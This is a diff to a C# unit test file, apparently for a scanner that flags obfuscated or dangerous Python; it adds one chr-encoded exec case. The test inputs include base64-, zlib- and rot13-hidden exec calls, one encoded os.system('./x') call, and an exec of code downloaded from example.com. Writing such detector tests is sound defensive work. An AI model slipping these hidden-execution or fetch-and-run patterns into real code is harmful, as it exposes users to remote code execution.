@@ -18,6 +18,7 @@ public sealed class PythonSourceTests
     [InlineData("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n")]
     [InlineData("import base64, zlib\ndef f():\n    exec(zlib.decompress(base64.b64decode('eJwrKMrMK9Ew1AQADhUCsA==')))\n")]
     [InlineData("import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n")]
+    [InlineData("exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))\n")]
     [InlineData("exec(''.join(chr(c) for c in [95, 95, 105, 109, 112, 111, 114, 116, 95, 95, 40, 39, 111, 115, 39, 41, 46, 115, 121, 115, 116, 101, 109, 40, 39, 46, 47, 120, 39, 41]))\n")]
     [InlineData("import urllib.request\nurllib.request.urlopen('http://example.com/?x')\n")]
     [InlineData("import requests\nexec(requests.get('http://example.com/a').text)\n")]
